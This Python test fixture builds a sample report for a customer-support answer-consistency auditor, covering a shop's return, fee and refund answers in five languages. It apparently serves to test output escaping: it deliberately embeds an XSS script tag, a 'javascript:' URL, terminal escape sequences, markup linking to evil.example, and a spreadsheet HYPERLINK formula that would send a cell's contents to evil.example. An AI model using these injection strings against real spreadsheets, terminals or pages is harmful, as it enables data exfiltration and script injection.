"""A report made by hand: a small shop in five languages, with hostile strings where an attacker could put them."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable, Mapping
from typing import Any

from cx_audit.model import (
    Answer,
    Finding,
    FindingKind,
    Markup,
    Place,
    Position,
    Question,
    Quote,
    Report,
    Severity,
    Skipped,
    Status,
    Summary,
)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
ESCAPE = "\x1b[31mred\x1b[0m \x1b]0;title\x07and \x9b2J"
MARKUP = "[bold]x[/bold] [link=https://evil.example]y[/link]"

LONG = (
    "Hi {{ticket.requester.first_name}}, thanks for getting in touch with Fjord & Loom today! "
    + "We are a small team and we read every message ourselves, so please bear with us while we look into it. " * 6
    + "You can send the item back to us within 14 days after it was delivered, as long as it has not been washed. "
    + "Please keep the tags on and put the packing slip into the parcel so that we know that it is yours. " * 8
    + "Warm regards, the Fjord & Loom team"
)

ANSWERS: tuple[Answer, ...] = (
    Answer(
        "faq-1",
        "faq",
        "How long do I have to return something?",
        "<p>Changed your mind? You can return any item within <b>30 days</b> of delivery, unworn &amp; unwashed.</p>",
        markup=Markup.HTML,
        locale="en",
        place=Place(path="site/help/returns.html", line=12, url="https://shop.example/help/returns"),
        updated="2025-11-03T09:30:00Z",
    ),
    Answer(
        "mac-1",
        "macro",
        "Returns::Window - standard",
        LONG,
        locale="en",
        place=Place(path="exports/zendesk/macros.json", line=140, record="360021"),
        uses=1240,
    ),
    Answer(
        "bot-1",
        "chatbot",
        "return window",
        "U kunt uw bestelling binnen 30 dagen na ontvangst gratis terugsturen.",
        variants=("retourneren", "hoe lang heb ik om te retourneren?"),
        locale="nl",
        place=Place(path="bot/nl.jsonl", line=7),
    ),
    Answer(
        "bot-1-ar",
        "chatbot",
        "مدة الإرجاع",
        "يمكنك إرجاع أي منتج خلال 14 يومًا من تاريخ الاستلام، بشرط ألا يكون قد استُخدم. راسلنا على WhatsApp للمساعدة.",
        locale="ar",
        place=Place(path="bot/ar.jsonl", line=3),
    ),
    Answer(
        "rep-1",
        "agent",
        "hiya whats the returns deadline",
        f"Sure! It's 14 days from when it arrives. {SCRIPT} {ESCAPE} {MARKUP}",
        locale="en",
        agent=f"Mia {SCRIPT}",
        place=Place(path="replies/2025-11.csv", line=88),
    ),
    Answer(
        "faq-2",
        "faq",
        "¿Cuánto cuesta devolver un pedido?",
        "La devolución es gratuita dentro de la península; solo tienes que imprimir la etiqueta.",
        locale="es",
        place=Place(path="site/help/devoluciones.html", line=31, url="https://shop.example/es/devoluciones"),
    ),
    Answer(
        "mac-2",
        "macro",
        "Coste de devolución",
        "La devolución tiene un coste de 4,95 € que se descuenta del reembolso.",
        locale="es",
        place=Place(path="exports/zendesk/macros.json", line=212, record="360044"),
    ),
    Answer(
        "card-2",
        "knowledge",
        "Return shipping fee",
        "Return shipping is free for members; others pay €4.95.",
        locale="en",
        audience="member",
        authority="policy",
        place=Place(path="policy/returns.md", line=9),
    ),
    Answer(
        "bot-3",
        "chatbot",
        "khi nào tôi nhận được tiền hoàn lại",
        "Tiền hoàn lại sẽ về tài khoản của bạn trong vòng 5 ngày làm việc.",
        locale="vi",
        place=Place(path="bot/vi.jsonl", line=19),
    ),
    Answer(
        "rep-3",
        "agent",
        "bao lâu thì nhận được tiền hoàn?",
        "Dạ, thường mất khoảng 10 ngày làm việc để tiền hoàn lại về tài khoản của bạn ạ.",
        locale="vi",
        agent="Lan",
        place=Place(path="replies/2025-11.csv", line=131),
    ),
    Answer(
        "faq-4",
        "faq",
        "Can I return sale items?",
        "Yes, sale items can be returned like everything else.",
        locale="en",
        place=Place(path="site/help/returns.html", line=40, url="javascript:alert(1)"),
    ),
    Answer(
        "rep-4",
        "agent",
        "can i bring back a sale dress",
        "Sorry, sale items can not be returned, they are final sale.",
        locale="en",
        agent="Tom",
        place=Place(record="msg-99"),
    ),
    Answer(
        "faq-5",
        "faq",
        "When can I call you?",
        "Our lines are open Monday to Friday from 9:00 to 17:00.",
        locale="en",
        place=Place(path="site/help/contact.html", line=5),
    ),
    Answer(
        "mac-5",
        "macro",
        "Phone hours",
        "You can call us on weekdays, 9am to 5pm. Closed on public holidays.",
        locale="en",
        place=Place(path="exports/zendesk/macros.json", line=301),
    ),
    Answer(
        "faq-6",
        "faq",
        FORMULA,
        f"{FORMULA} is not a promo code. Codes are valid until 31 December 2023.",
        locale="en",
        place=Place(path="site/help/codes.html", line=2),
    ),
)

_TEXT = {answer.id: answer for answer in ANSWERS}


def quote(answer_id: str, words: str, *marked: str, source: str | None = None) -> Quote:
    """The quote ``words`` of an answer; ``source`` is how its text writes them, if not the same."""
    text = _TEXT[answer_id].text
    start = text.index(source or words)
    marks = tuple((words.index(mark), words.index(mark) + len(mark)) for mark in marked)
    return Quote(answer_id, words, start, start + len(source or words), marks)


def question(id: str, title: str, stage: str | None, *answer_ids: str) -> Question:
    answers = [_TEXT[answer_id] for answer_id in answer_ids]
    channels = tuple(sorted({answer.channel for answer in answers}))
    locales = tuple(sorted({answer.locale for answer in answers if answer.locale}))
    return Question(id, title, answer_ids, channels, locales, stage, confidence=0.91)


QUESTIONS = (
    question(
        "q-window", "How long do I have to return something?", "return", "faq-1", "mac-1", "bot-1", "bot-1-ar", "rep-1"
    ),
    question("q-fee", "¿Cuánto cuesta devolver un pedido?", "return", "faq-2", "mac-2", "card-2"),
    question("q-refund", "khi nào tôi nhận được tiền hoàn lại", "refund", "bot-3", "rep-3"),
    question("q-sale", "Can I return sale items?", "return", "faq-4", "rep-4"),
    question("q-hours", "When can I call you?", "contact", "faq-5", "mac-5"),
    question("q-code", FORMULA, None, "faq-6"),
)


def _window() -> Finding:
    html = "You can return any item within <b>30 days</b> of delivery, unworn &amp; unwashed."
    return Finding(
        "f-window",
        FindingKind.CONTRADICTION,
        Severity.HIGH,
        "q-window",
        "Duration: chatbot and faq say 30 days; agent Mia, chatbot and macro say 14 days",
        (
            Position(
                "duration:14 day",
                "14 days",
                (
                    quote(
                        "bot-1-ar",
                        "يمكنك إرجاع أي منتج خلال 14 يومًا من تاريخ الاستلام، بشرط ألا يكون قد استُخدم.",
                        "14 يومًا",
                    ),
                    quote("mac-1", LONG.replace("{{ticket.requester.first_name}}", "…"), "14 days", source=LONG),
                    quote("rep-1", f"It's 14 days from when it arrives. {SCRIPT} {ESCAPE} {MARKUP}", "14 days"),
                ),
            ),
            Position(
                "duration:30 day",
                "30 days",
                (
                    quote("bot-1", "U kunt uw bestelling binnen 30 dagen na ontvangst gratis terugsturen.", "30 dagen"),
                    quote(
                        "faq-1",
                        "You can return any item within 30 days of delivery, unworn & unwashed.",
                        "30 days",
                        source=html,
                    ),
                ),
            ),
        ),
        role="return_window",
        fact_kind="duration",
        confidence=0.97,
        impact={"contacts": 1840, "csat": {"mean": 3.2, "answers": 12}},
    )


def _fee() -> tuple[Finding, ...]:
    free = quote("faq-2", "La devolución es gratuita dentro de la península", "gratuita")
    paid = quote("mac-2", "La devolución tiene un coste de 4,95 € que se descuenta del reembolso.", "4,95 €")
    card = quote("card-2", "Return shipping is free for members; others pay €4.95.", "free", "€4.95")
    return (
        Finding(
            "f-fee",
            FindingKind.CONTRADICTION,
            Severity.HIGH,
            "q-fee",
            "Amount: faq says free; macro says 4.95 EUR",
            (Position("money:0", "free", (free,)), Position("money:4.95 EUR", "4.95 EUR", (paid,))),
            role="return_fee",
            fact_kind="money",
            confidence=0.93,
        ),
        Finding(
            "f-policy",
            FindingKind.POLICY,
            Severity.MEDIUM,
            "q-fee",
            "faq departs from the policy: free for members, others pay €4.95",
            (Position("money:0", "free", (free,)), Position("money:4.95 EUR", "4.95 EUR, members free", (card,))),
            role="return_fee",
            fact_kind="money",
            policy={"source": "policy/returns.md:9", "says": "4.95 EUR", "owner": "Returns team"},
        ),
        Finding(
            "f-scoped",
            FindingKind.SCOPED,
            Severity.INFO,
            "q-fee",
            "Amount differs by audience: 4.95 EUR / free for member",
            (Position("money:4.95 EUR", "4.95 EUR", (paid,)), Position("money:0", "free", (card,))),
            fact_kind="money",
            confidence=0.8,
        ),
    )


def _differences() -> tuple[Finding, ...]:
    bot = quote("bot-3", _TEXT["bot-3"].text, "5 ngày làm việc")
    rep = quote("rep-3", _TEXT["rep-3"].text, "khoảng 10 ngày làm việc")
    hours = quote("mac-5", "Closed on public holidays.", "public holidays")
    return (
        Finding(
            "f-refund",
            FindingKind.CONTRADICTION,
            Severity.MEDIUM,
            "q-refund",
            "Duration: chatbot says 5 business days; agent Lan says about 10 business days",
            (
                Position("duration:5 business_day", "5 business days", (bot,)),
                Position("duration:10 business_day", "about 10 business days", (rep,)),
            ),
            role="refund_time",
            fact_kind="duration",
            confidence=0.88,
        ),
        Finding(
            "f-sale",
            FindingKind.UNVERIFIED,
            Severity.MEDIUM,
            "q-sale",
            "One says yes, the other seems to say no",
            (
                Position("yes", "can be returned", (quote("faq-4", _TEXT["faq-4"].text),)),
                Position("no", "can not be returned", (quote("rep-4", _TEXT["rep-4"].text),)),
            ),
            confidence=0.61,
        ),
        Finding(
            "f-hours",
            FindingKind.OMISSION,
            Severity.LOW,
            "q-hours",
            "Closed on public holidays: said by macro, left out by faq",
            (
                Position("closed:public_holiday", "closed on public holidays", (hours,)),
                Position("", "not mentioned", (quote("faq-5", _TEXT["faq-5"].text),)),
            ),
            confidence=0.5,
        ),
    )


def _others() -> tuple[Finding, ...]:
    return (
        Finding(
            "f-gap",
            FindingKind.GAP,
            Severity.LOW,
            "q-code",
            "The chatbot has no answer to this; 40 customers asked",
            (),
        ),
        Finding(
            "f-stale",
            FindingKind.STALE,
            Severity.LOW,
            "q-code",
            "The date 2023-12-31 has passed",
            (
                Position(
                    "date:2023-12-31",
                    "2023-12-31",
                    (quote("faq-6", "Codes are valid until 31 December 2023.", "31 December 2023"),),
                ),
            ),
            fact_kind="date",
            status=Status.BASELINE,
        ),
        Finding(
            "f-meant",
            FindingKind.CONTRADICTION,
            Severity.MEDIUM,
            "q-hours",
            "Time of day: meant to differ",
            (
                Position("a", "9:00-17:00", (quote("faq-5", "9:00 to 17:00", "9:00 to 17:00"),)),
                Position("b", "9am-5pm", (quote("mac-5", "9am to 5pm", "9am to 5pm"),)),
            ),
            status=Status.SUPPRESSED,
        ),
    )


def make_report(
    findings: Iterable[Finding] | None = None,
    *,
    answers: tuple[Answer, ...] = ANSWERS,
    questions: tuple[Question, ...] = QUESTIONS,
    skipped: tuple[Skipped, ...] | None = None,
    settings: Mapping[str, Any] | None = None,
) -> Report:
    """The sample, or one like it; the summary is counted from what it holds."""
    found = (_window(), *_fee(), *_differences(), *_others()) if findings is None else tuple(findings)
    told = Counter(finding.kind.value for finding in found if finding.status is not Status.SUPPRESSED)
    coverage = Counter(channel for q in questions for channel in q.channels)
    compared = sum(len(q.answer_ids) > 1 for q in questions)
    return Report(
        tool_version="0.0.0",
        settings={"min_confidence": 0.5, "group_by": None, "languages": ["ar", "en"]} if settings is None else settings,
        summary=Summary(len(answers), len(questions), compared, len(questions) - compared, told, coverage),
        answers=answers,
        questions=questions,
        findings=found,
        skipped=(
            Skipped("exports/zendesk/macros.json", "draft", 4),
            Skipped("site/help/index.html", "empty answer", 1, detail=f"line 8 {ESCAPE}"),
            Skipped("bot/nl.jsonl", "only one speaker answers this question", 1, answer_id="faq-6"),
        )
        if skipped is None
        else skipped,
    )
